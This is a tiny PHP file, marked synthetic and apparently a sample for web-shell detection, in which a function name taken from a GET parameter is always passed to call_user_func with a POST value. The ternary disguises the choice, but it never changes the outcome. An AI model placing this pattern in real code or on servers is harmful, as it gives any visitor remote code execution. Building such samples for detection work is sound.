<?php
// synthetic: callback chosen through a ternary over a request variable
$f = $_GET['f'];
$v = $_POST['v'];
call_user_func($f == $f ? $f : 'trim', $v);
